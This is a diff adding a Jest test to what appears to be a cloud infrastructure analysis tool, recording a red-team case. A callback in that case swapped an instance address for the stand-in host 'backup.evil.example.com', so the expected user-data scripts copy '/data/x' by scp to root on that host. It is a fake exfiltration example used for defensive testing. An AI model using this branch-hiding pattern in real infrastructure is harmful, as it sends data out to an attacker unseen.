@@ -114,3 +114,22 @@ it("names the resource and output in the mark of an address output, used whole, 
     shown(Buffer.from(inputs("encoded-in-callback").userData as string, "base64").toString()),
   ).toContain("--endpoint ⟨?⟩");
 });
+
+// Red team 85 (a32): `ip.startsWith("10.") ? ip : "backup.evil.example.com"` in a callback on an
+// instance's address kept the stand-in's side, which the pack placed where the instance is: the
+// other side was never seen, and the stack passed as sealed.
+it("names no address in the marks of a callback that consulted the address", () => {
+  expect(shown(inputs("sent-by-branch").userData)).toBe(
+    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
+  );
+  expect(
+    shown(Buffer.from(inputs("sent-by-branch-encoded").userData as string, "base64").toString()),
+  ).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
+  expect(shown(inputs("sent-from-branch").userData)).toBe(
+    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
+  );
+  // Used only as text, it still names the address.
+  expect(shown(inputs("sent-to-address").userData)).toBe(
+    "#!/bin/bash\nscp /data/x root@⟨address.publicIp⟩:/srv/\n",
+  );
+});
